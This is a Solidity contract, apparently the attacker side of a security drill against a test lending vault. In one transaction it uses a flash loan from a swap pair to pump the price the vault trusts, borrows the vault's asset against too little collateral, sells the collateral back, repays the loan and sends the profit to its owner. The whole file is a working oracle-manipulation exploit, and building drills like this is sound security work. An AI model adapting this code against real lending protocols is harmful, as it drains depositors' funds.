// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Exchange} from "./Exchange.sol";
import {IFlashBorrower, ILendingVault, IPair, IToken} from "./Interfaces.sol";

/// The attack of the drill, for the drill's own vault: each round lifts the price that the vault trusts with borrowed
/// money, borrows against little collateral at that price, and lets the price fall back, all in one transaction.
contract AttackerDrain is IFlashBorrower {
    ILendingVault public immutable vault;
    /// The pair that lends the money for the pump; it trades the vault's asset against anything but the collateral.
    address public immutable lender;
    address public immutable owner;

    constructor(address vault_, address lender_) {
        vault = ILendingVault(vault_);
        lender = lender_;
        owner = msg.sender;
        IToken(vault.collateral()).approve(vault_, type(uint256).max);
    }

    /// Takes up to `slice` of the vault's asset, with `pump` borrowed for the price; the profit goes to the owner.
    function round(uint256 slice, uint256 pump) external {
        require(msg.sender == owner, "not yours");
        address asset = vault.asset();
        address other = IPair(lender).token0() == asset ? IPair(lender).token1() : IPair(lender).token0();
        Exchange.take(lender, other, pump, abi.encode(slice, pump));
        uint256 profit = IToken(asset).balanceOf(address(this));
        require(profit > 0, "no profit");
        IToken(asset).transfer(owner, profit);
    }

    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        require(msg.sender == lender && sender == address(this), "not asked for");
        (uint256 slice, uint256 pump) = abi.decode(data, (uint256, uint256));
        IToken asset = IToken(vault.asset());
        IToken collateral = IToken(vault.collateral());
        address pair = vault.pair();

        Exchange.sell(pair, address(asset), pump);
        _borrow(slice);
        Exchange.sell(pair, address(collateral), collateral.balanceOf(address(this)));

        asset.transfer(lender, (pump * Exchange.WHOLE) / Exchange.KEPT + 1);
    }

    function _borrow(uint256 slice) private {
        uint256 available = vault.borrowable();
        uint256 amount = slice < available ? slice : available;
        // A hundredth more than asked for, so that the vault's fee is covered too.
        uint256 debt = vault.debtOf(address(this)) + amount + amount / 100;
        uint256 needed = vault.collateralNeeded(debt);
        uint256 posted = vault.collateralOf(address(this));
        if (needed > posted) vault.depositCollateral(needed - posted);
        vault.borrow(amount);
    }
}
